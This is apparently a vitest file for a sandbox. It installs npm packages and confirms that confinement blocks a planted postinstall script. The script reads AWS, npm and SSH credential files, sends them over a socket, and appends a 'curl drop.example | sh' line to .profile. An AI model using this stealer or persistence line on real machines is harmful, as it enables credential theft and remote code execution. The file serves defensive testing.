// Packages from npm whose own tests run held, and the same packages with a script planted that takes secrets when it is installed.
import { execFileSync } from "node:child_process";
import { mkdirSync, readdirSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import process from "node:process";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { WHY_NOT_HELD } from "../../../holding.ts";
import { until } from "../../../until.ts";
import { heldMachine, type HeldMachine } from "./held.ts";
import { sampled } from "../../../sampled.ts";

/** Their tests lie in the package, and what these need is small. */
const PACKAGES = {
  "xtend@4.0.2": "# ok",
  "buffer-equal-constant-time@1.0.1": "mocha test.js",
  "concat-map@0.0.2": "# ok",
} as const;
const names = sampled(Object.keys(PACKAGES) as (keyof typeof PACKAGES)[], 9);

let machine: HeldMachine;
let missing: string | undefined = WHY_NOT_HELD;
let sink: Server;
let reached = 0;

/** Does what such scripts do: takes keys and variables, sends them, and stays. */
const steals = (port: number): string =>
  [
    'const fs = require("node:fs"); const path = require("node:path"); const home = process.env.HOME;',
    "const found = {};",
    'for (const name of [".aws/credentials", ".npmrc", ".ssh/id_ed25519"]) try { found[name] = fs.readFileSync(path.join(home, name), "utf8"); } catch (error) { found[name] = error.code; }',
    'fs.writeFileSync("found.json", JSON.stringify(found)); console.log(JSON.stringify(found));',
    'try { fs.appendFileSync(path.join(home, ".profile"), "curl -s drop.example | sh\\n"); } catch {}',
    `require("node:net").connect(${port}, "127.0.0.1").on("connect", function () { this.write(JSON.stringify(found), () => this.destroy()); }).on("error", () => {});`,
  ].join("\n");

const folderOf = (name: string): string => join(machine.project, name.replace(/@[\d.]+$/, ""));

/** Runs a program without anything that holds it. */
function freely(cwd: string, environment: NodeJS.ProcessEnv, ...words: readonly string[]): string {
  const [program = "", ...rest] = words;
  return execFileSync(program, rest, {
    cwd,
    encoding: "utf8",
    timeout: 120_000,
    stdio: ["ignore", "pipe", "pipe"],
    env: environment,
  });
}

const INSTALL = ["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund"] as const;

beforeAll(async () => {
  machine = await heldMachine();
  missing ??= machine.trouble;
  if (missing !== undefined) return;
  sink = createServer((socket) => {
    reached += 1;
    socket.on("error", () => undefined).resume();
  });
  await new Promise<void>((resolve) => sink.listen(0, "127.0.0.1", () => resolve()));
  const address = sink.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  for (const name of [".aws/credentials", ".npmrc", ".ssh/id_ed25519"])
    machine.file(join("home", name), `${machine.canary}\n`);
  machine.file("home/.profile", "# own\n");
  try {
    // WHY the tests' own environment: it says where packages are to be had.
    const { npm_config_offline: _offline, ...own } = process.env;
    for (const name of names) {
      const here = folderOf(name);
      mkdirSync(here, { recursive: true });
      freely(here, own, "npm", "pack", name, "--silent", "--fetch-retries=0");
      const [file = ""] = readdirSync(here);
      freely(here, own, "tar", "xzf", file, "--strip-components=1", "--no-same-owner");
      freely(here, own, ...INSTALL, "--fetch-retries=0");
    }
  } catch (error) {
    missing = `the registry of packages could not be asked: ${String(error).split("\n")[0]}`;
    return;
  }
  for (const name of names) {
    const planted = join("home/project", name.replace(/@[\d.]+$/, ""), "node_modules/planted");
    machine.file(join(planted, "steal.js"), steals(port));
    machine.file(
      join(planted, "package.json"),
      JSON.stringify({
        name: "planted",
        version: "1.0.0",
        scripts: { postinstall: "node steal.js" },
      }),
    );
  }
}, 300_000);
afterAll(async () => {
  sink?.close();
  await machine.remove();
});

beforeEach((ctx) => {
  if (missing !== undefined) ctx.skip(missing);
});

describe.each(names)("%s", (name) => {
  const run = (command: string) =>
    machine.run({ command, cwd: folderOf(name), timeoutMs: 120_000 });
  const found = () => join(folderOf(name), "node_modules", "planted", "found.json");

  test("its own tests pass, held", async () => {
    const { kind, status, said } = await run("npm test");
    expect([kind, status]).toEqual(["held", 0]);
    expect(said).toContain(PACKAGES[name]);
  });
  test("a script that is planted in it takes nothing when it is installed", async () => {
    const before = reached;
    const { kind, said } = await run("npm rebuild planted --foreground-scripts");
    expect([kind, said]).toEqual(["held", expect.stringContaining(".aws/credentials")]);
    expect(readFileSync(found(), "utf8") + said).not.toContain(machine.canary);
    expect(readFileSync(join(machine.home, ".profile"), "utf8")).toBe("# own\n");
    expect(reached).toBe(before);
  });
  test("the same script takes all of it where nothing holds it", async () => {
    const before = reached;
    const environment = { PATH: process.env["PATH"], HOME: machine.home };
    freely(folderOf(name), environment, "npm", "rebuild", "planted", "--foreground-scripts");
    expect(readFileSync(found(), "utf8")).toContain(machine.canary);
    expect(readFileSync(join(machine.home, ".profile"), "utf8")).toContain("drop.example");
    await until("it is sent", () => reached === before + 1);
    machine.file("home/.profile", "# own\n");
  });
});
